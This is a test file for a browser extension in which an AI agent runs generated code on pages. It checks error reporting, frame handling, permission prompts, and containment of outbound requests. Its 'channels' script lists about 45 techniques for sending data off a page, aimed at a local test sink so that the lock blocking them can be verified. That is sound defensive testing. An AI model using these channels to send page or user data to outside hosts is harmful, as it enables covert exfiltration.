import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import type { Page } from '../helpers/browsers/index.ts';
import { letCodeRun } from '../helpers/code-access.ts';
import { carryOut, type Step } from '../helpers/carry-out.ts';
import { act, claimDone, judgeComplete, makePlan } from '../helpers/directed-model.ts';
import { describeInBrowsers } from '../helpers/in-browsers.ts';
import { waitForText } from '../helpers/options.ts';
import { answerCard, sendMessage, waitForOutcome } from '../helpers/panel.ts';
import { play, refIn, requestsOf, textOf } from '../helpers/roles.ts';
import { startModelServer, type ModelServer } from '../helpers/model-server.ts';
import { startRecordingSite, type RecordingSite } from '../helpers/sites/recording-site.ts';
import { storeSettings, useModelServer } from '../helpers/settings.ts';
import { itWide } from '../helpers/wide.ts';

const policies = {
  'no policy': '',
  "script-src 'self'": "script-src 'self'",
  "script-src 'none'": "default-src 'none'; script-src 'none'",
  'Trusted Types': "script-src 'self'; require-trusted-types-for 'script'; trusted-types 'none'",
};

describeInBrowsers('generated code', (browser) => {
  let model: ModelServer;
  let site: RecordingSite;
  /** Nothing may ever be asked of this one. */
  let sink: RecordingSite;
  beforeAll(async () => {
    model = await startModelServer();
    [site, sink] = [await startRecordingSite(), await startRecordingSite()];
    await useModelServer(browser(), model.url);
    await storeSettings(browser(), 'generalSettings', { allowCodeGeneration: true, showPointer: false });
    await letCodeRun(browser());
  });
  afterAll(async () => {
    await browser().allowCode(false);
    for (const server of [model, site, sink]) await server.close();
  });

  const open = async (path: string, policy = '') => {
    const head = policy && `<meta http-equiv="Content-Security-Policy" content="${policy}">`;
    const page = await browser().newPage(site.page(path, `<!doctype html>${head}<title>Rows</title>${body}`));
    return { page, panel: await browser().openPanel(page) };
  };
  /** Runs each code in one task, which the user allows to run code on the site. */
  const run = async (panel: Page, codes: (string | Step)[]) => {
    const steps = codes.map((code): Step =>
      typeof code === 'string' ? ['execute_code', { code, explanation: 'Tests.' }] : code,
    );
    const told = await carryOut(panel, model, steps, undefined, ['Allow all code on this site for this task']);
    return told.results.map((line) => line.slice(line.indexOf('"Tests."') + 8).replace(/^[^:]*: /, ''));
  };

  itWide.each(Object.entries(policies))('runs on a page with %s', async (name, policy) => {
    const { page, panel } = await open(`/${name.replace(/\W/g, '')}`, policy);
    const told = await run(panel, [
      "const button = el('e1');\nbutton.textContent = await Promise.resolve('Renamed');\nconsole.log('done', new Map([['a', 1]]));\nreturn { title: document.title, rows: document.querySelectorAll('li').length };",
      'const a = 1;\nnull.x;',
    ]);
    expect(told.map((line) => line.replace(/(TypeError): .*(, line 2)/, '$1$2'))).toEqual([
      'Result: | {"title":"Rows","rows":2}\nconsole.log: done {"a":1}',
      'Failed: CODE_FAILED | TypeError, line 2 Attempt 1 of 3 had no effect. Try another approach.',
    ]);
    expect(await page.text('button')).toBe('Renamed');
  });

  itWide('reports whatever it returns', async () => {
    const { panel } = await open('/odd');
    const limited = (code: string): Step => ['execute_code', { code, explanation: 'Tests.', timeout_ms: 300 }];
    const told = await run(panel, [
      'const one = { a: 1 }; one.self = one; return [one, document.body.firstElementChild, () => 1];',
      'return "x".repeat(500000);',
      'return el("e999").id;',
      'document.querySelector("li").textContent = "3";',
      'return [confirm("Sure?"), typeof RTCPeerConnection, typeof window.RTCPeerConnection];',
      'return document.querySelector("iframe").contentWindow.document.title;',
      'document.title',
      'throw { code: 7 };',
      limited('await new Promise(() => {});'),
    ]);
    expect(told.map((line) => line.slice(0, 240))).toEqual([
      'Result: Nothing changed on the page. | [{"a":1,"self":"[cycle]"},"<button id=\\"b\\"> Save","[function]"]'.replace(
        '[function]',
        '[function anonymous]',
      ),
      expect.stringMatching(
        /^Result, the first 20000 of 500002 characters; return less to see all: Nothing changed on the page\. \| "x+$/,
      ),
      'Failed: CODE_FAILED | Error: e999 never was a ref of this page. Refs stand in brackets in the page text., line 1 Attempt 1 of 3 had no effect. Try another approach.',
      'The code returned nothing.',
      'Result: Nothing changed on the page. | [false,"undefined","undefined"]\nconsole.log: confirm("Sure?")',
      expect.stringMatching(/^Failed: CODE_FAILED \| SecurityError: /),
      'Result: Nothing changed on the page. | Rows',
      'Failed: CODE_FAILED | {"code":7} Attempt 1 of 3 had no effect. Try another approach.',
      expect.stringMatching(/^Failed: CODE_FAILED \| The code did not end within 0\.3 s/),
    ]);
  });

  itWide('notices that its page, or its frame, goes away under it', async () => {
    site.page('/next', '<title>Next</title><p>Next page');
    site.page('/inner', '<title>Inner</title><button>In the frame');
    const { page, panel } = await open('/leaves');
    await page.evaluate(
      () =>
        new Promise((resolve) =>
          document
            .querySelector('iframe')!
            .replaceWith(Object.assign(document.createElement('iframe'), { src: '/inner', onload: resolve })),
        ),
    );
    const told = await run(panel, ['location.href = "/next"; await new Promise(() => {});']);
    expect(told).toEqual([
      'Failed: NAVIGATED | The page went away while the code ran, and its result with it. Look at the page again.',
    ]);
    expect(await page.text('p')).toBe('Next page');
  });

  itWide('runs in a frame of a ref, after a card of its own, and notices that the frame goes', async () => {
    site.page('/inner', '<title>Inner</title><button>In the frame</button>');
    const page = await browser().newPage(
      site.page('/framed', '<title>Framed</title><iframe title="Frame" src="/inner"></iframe>'),
    );
    const panel = await browser().openPanel(page);
    const inFrame = (code: string): Step => ['execute_code', { frame: 'f1e1', code, explanation: 'Tests.' }];
    const steps = [inFrame('document.title'), inFrame('frameElement.remove(); await new Promise(() => {});')];
    const [title, gone] = (await carryOut(panel, model, steps, undefined, ['Allow once', 'Allow once'])).results;
    // What an act changed is told of the page, not of its frames.
    expect(title).toMatch(/: Result: \| Inner$/);
    expect(gone).toMatch(/Failed: FRAME_GONE \| The frame went away while the code ran/);
  });

  it('sends nothing to another site while it runs', async () => {
    const { page, panel } = await open('/locked');
    const leave: Step = [
      'execute_code',
      {
        code: `location.href = "${sink.url}/location"; await new Promise(() => {});`,
        explanation: 'Tests.',
        timeout_ms: 300,
      },
    ];
    const told = await run(panel, [`const sink = ${JSON.stringify(sink.url)};\n${channels}`, leave]);
    expect(told[0]).toMatch(/\| 45 channels tried/);
    expect([sink.requests, sink.bytes()]).toEqual([[], 0]);
    // The lock is gone with the run: the page itself reaches the other site again.
    await page.goto(site.page('/free', '<title>Free</title>'));
    await page.evaluate(untilLetOut, `${sink.url}/control`);
    expect([sink.requests, sink.bytes() > 0]).toEqual([['GET /control'], true]);
  });

  itWide(
    'sends nothing after the death of the background either: new tabs of the user are free, and its tab is freed when it has ended',
    async () => {
      const leaks = await startRecordingSite();
      const { page, panel } = await open('/orphan');
      const code = `const heard = (name) => new Promise((resolve) => addEventListener(name, resolve, { once: true }));
      document.body.dataset.code = 'runs';
      await heard('go');
      new Image().src = '${leaks.url}/image';
      await fetch('${leaks.url}/fetch', { mode: 'no-cors' }).catch(() => 0);
      document.body.dataset.code = 'tried';
      await heard('end');`;
      model.handle(
        play({
          planner: [makePlan('Run it'), judgeComplete()],
          navigator: [act(['execute_code', { code, explanation: 'Tests.' }]), claimDone()],
        }),
      );
      const first = model.requests.length;
      await sendMessage(panel, 'Run it');
      await panel.click('button', 'Allow once');
      await page.waitFor(() => document.body.dataset.code === 'runs');
      await browser().killBackground();
      expect((await waitForOutcome(panel)).status).toBe('unconfirmed');
      expect(textOf(requestsOf(model.requests.slice(first), 'navigator')[1])).toContain('It may have happened.');
      await panel.close();
      await browser().killBackground();
      // As Ctrl+T in the locked tab does it.
      const fresh = await browser().inExtension(
        async (openerTabId: number) => {
          const { windowId } = await chrome.tabs.get(openerTabId);
          return (await chrome.tabs.create({ openerTabId, windowId, active: false })).id ?? -1;
        },
        await browser().tabIdOf(page),
      );
      await vi.waitUntil(() =>
        browser().inExtension(
          async (id: number, url: string) => {
            const { title, status } = await chrome.tabs.get(id);
            if (title !== 'Fresh' && status === 'complete') await chrome.tabs.update(id, { url });
            return title === 'Fresh';
          },
          fresh,
          site.page('/fresh', '<title>Fresh</title>'),
        ),
      );
      await browser().inExtension((id: number) => chrome.tabs.remove(id), fresh);
      await page.evaluate(() => dispatchEvent(new Event('go')));
      await page.waitFor(() => document.body.dataset.code === 'tried');
      expect(leaks.bytes()).toBe(0);
      await page.evaluate(() => dispatchEvent(new Event('end')));
      await page.evaluate(untilLetOut, `${leaks.url}/control`);
      expect(leaks.requests).toEqual(['GET /control']);
      await leaks.close();
    },
  );

  itWide('does by code what the tools cannot do', async () => {
    const page = await browser().newPage(
      site.page(
        '/delegated',
        '<!doctype html><title>Tea</title><button autofocus>Brew</button><script>document.querySelector("button").addEventListener("brew", () => { document.title = "Brewed"; });</script>',
      ),
    );
    const panel = await browser().openPanel(page);
    const click: Parameters<typeof play>[0]['planner'][number] = (request) =>
      act(['click', { ref: refIn(request, 'button "Brew"'), step: 1 }]);
    model.handle(
      play({
        planner: [makePlan('Brew the tea'), judgeComplete()],
        navigator: [
          click,
          (request) =>
            act([
              'execute_code',
              {
                code: `el('${refIn(request, 'button "Brew"')}').dispatchEvent(new Event('brew'));`,
                explanation: 'Brews by script.',
                step: 1,
              },
            ]),
          claimDone(),
        ],
      }),
    );
    const first = model.requests.length;
    await sendMessage(panel, 'Brew the tea');
    await panel.click('button', 'Allow once');
    expect((await waitForOutcome(panel)).status).toBe('done');
    const [, afterClick, afterCode] = requestsOf(model.requests.slice(first), 'navigator').map(textOf);
    expect(afterClick).toContain('Clicked. Nothing changed on the page.');
    expect(afterCode).toMatch(/Result:\n<page-content-\w+>\ntrue\n/);
    expect(await page.evaluate(() => document.title)).toBe('Brewed');
  });

  itWide('leads the user to the step that the browser wants first, and notices when it is done', async () => {
    await browser().allowCode(false);
    const { page, panel } = await open('/guide');
    const step =
      browser().name === 'firefox' ? 'Click “Ask Firefox”.' : 'On that page, switch on “Allow User Scripts”.';
    await waitForText(panel, 'body', step);
    for (const allowed of [false, true]) {
      await panel.click('button', browser().name === 'firefox' ? 'Ask Firefox' : 'Open Sidehand’s page');
      await browser().answerAboutCode(allowed);
      await page.bringToFront();
      await panel.bringToFront();
      await waitForText(panel, 'body', allowed ? 'Sidehand can run code now.' : step);
    }
    expect(await panel.text('body')).not.toContain(step);

    const code = act(['execute_code', { code: 'document.title', explanation: 'Tests.' }]);
    const first = model.requests.length;
    model.handle(
      play({
        planner: [makePlan('Run it'), judgeComplete()],
        navigator: [
          code,
          async () => {
            await browser().allowCode(false);
            return code;
          },
          async () => {
            await letCodeRun(browser());
            await storeSettings(browser(), 'generalSettings', { allowCodeGeneration: false, showPointer: false });
            return code;
          },
          claimDone(),
        ],
      }),
    );
    await sendMessage(panel, 'Run it');
    await answerCard(panel, 'Allow all code on this site for this task');
    await waitForOutcome(panel);
    expect(
      requestsOf(model.requests.slice(first), 'navigator')
        .slice(1)
        .map((request) => request.messages.findLast(({ role }) => role === 'tool')?.text),
    ).toEqual([
      expect.stringContaining('Rows'),
      expect.stringMatching(/^Failed: CODE_NOT_ALLOWED\.[^]*The browser does not let Sidehand run code yet\./),
      expect.stringMatching(/^Failed: CODE_NOT_ALLOWED\.[^]*The user has switched off running code\./),
    ]);
    await storeSettings(browser(), 'generalSettings', { allowCodeGeneration: true, showPointer: false });
  });
});

/** Runs in the page: resolves once a request to the address gets out, which a lock prevents until its end. */
async function untilLetOut(url: string): Promise<void> {
  for (let free = false; !free;)
    free = await fetch(url, { mode: 'no-cors' }).then(
      () => true,
      () => false,
    );
}

/**
 * Ways out of a page that are HTTP requests, as far as one script can try them. Without the tab's icon: Firefox loads
 * that by itself, later (see the README).
 */
const channels = `
const tried = [];
const go = (name, work) => { tried.push(name); try { const done = work(sink + '/' + name); if (done instanceof Promise) done.catch(() => 0); } catch { return; } };
const put = (tag, more) => { const made = Object.assign(document.createElement(tag), more); document.body.append(made); return made; };
go('fetch', (url) => fetch(url, { method: 'POST', body: 'x', mode: 'no-cors' }));
go('xhr', (url) => { const call = new XMLHttpRequest(); call.open('GET', url); call.send(); });
go('beacon', (url) => navigator.sendBeacon(url, 'x'));
go('socket', (url) => new WebSocket(url.replace('http', 'ws')));
// Closed once it has failed: otherwise it tries again some seconds later, when the lock may be gone.
go('events', (url) => { const events = new EventSource(url); events.onerror = () => events.close(); });
go('image', (url) => { new Image().src = url; });
go('picture', (url) => put('img', { src: url }));
go('script', (url) => put('script', { src: url }));
go('style', (url) => put('link', { rel: 'stylesheet', href: url }));
go('prefetch', (url) => put('link', { rel: 'prefetch', href: url }));
go('frame', (url) => put('iframe', { src: url }));
go('srcdoc', (url) => put('iframe', { srcdoc: '<img src="' + url + '">' }));
go('object', (url) => put('object', { data: url }));
go('embed', (url) => put('embed', { src: url }));
go('video', (url) => put('video', { src: url, autoplay: true }));
go('audio', (url) => put('audio', { src: url, preload: 'auto' }));
go('submit', (url) => put('input', { type: 'image', src: url }));
go('track', (url) => { const video = put('video', {}); video.append(Object.assign(document.createElement('track'), { src: url, default: true })); video.textTracks[0].mode = 'showing'; });
go('poster', (url) => put('video', { poster: url }));
go('svg', (url) => put('div', { innerHTML: '<svg><image href="' + url + '"/><use href="' + url + '#a"/></svg>' }));
go('sheet', (url) => put('style', { textContent: '@import url(' + url + ');' }));
go('cursor', (url) => { document.body.style.cssText += ';cursor:url(' + url + '),auto;list-style-image:url(' + url + ');mask-image:url(' + url + ')'; });
go('preload', (url) => put('link', { rel: 'preload', as: 'image', href: url }));
go('module', (url) => put('link', { rel: 'modulepreload', href: url }));
go('preconnect', (url) => put('link', { rel: 'preconnect', href: url }));
go('dns', (url) => put('link', { rel: 'dns-prefetch', href: url }));
go('speculation', (url) => put('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [url], eagerness: 'immediate' }], prerender: [{ urls: [url], eagerness: 'immediate' }] }) }));
go('keepalive', (url) => fetch(url, { mode: 'no-cors', keepalive: true }));
go('later', (url) => fetchLater(url, { activateAfter: 0 }));
go('transport', (url) => new WebTransport(url.replace('http', 'https')));
go('shared', (url) => new SharedWorker(url));
go('service', (url) => navigator.serviceWorker.register(url));
go('worklet', (url) => new AudioContext().audioWorklet.addModule(url));
go('download', (url) => { put('a', { href: url, target: '_blank', download: 'x', id: 'load' }); document.getElementById('load').click(); });
go('inframe', (url) => { put('iframe', { name: 'inner' }); put('form', { action: url, target: 'inner', id: 'in' }); document.getElementById('in').submit(); });
go('credential', (url) => navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: 'x' }] } }));
go('payment', (url) => new PaymentRequest([{ supportedMethods: url }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment());
go('background', (url) => { document.body.style.background = 'url(' + url + ')'; });
go('font', (url) => put('style', { textContent: '@font-face{font-family:x;src:url(' + url + ')}body{font-family:x}' }));
go('window', (url) => window.open(url));
go('link', (url) => { put('a', { href: url, target: '_blank', id: 'out' }); document.getElementById('out').click(); });
go('ping', (url) => { put('a', { href: '#x', ping: url, id: 'ping' }); document.getElementById('ping').click(); });
go('form', (url) => { put('form', { action: url, method: 'post', target: '_blank', id: 'form' }); document.getElementById('form').submit(); });
go('worker', (url) => new Worker(URL.createObjectURL(new Blob(['fetch("' + url + '",{mode:"no-cors"})']))));
go('import', (url) => import(url));
await fetch(location.href).catch(() => 0);
return tried.length + ' channels tried';
`;

const body =
  '<button id="b">Save</button><ul><li>1</li><li>2</li></ul><iframe title="Frame" src="data:text/html,other"></iframe>';
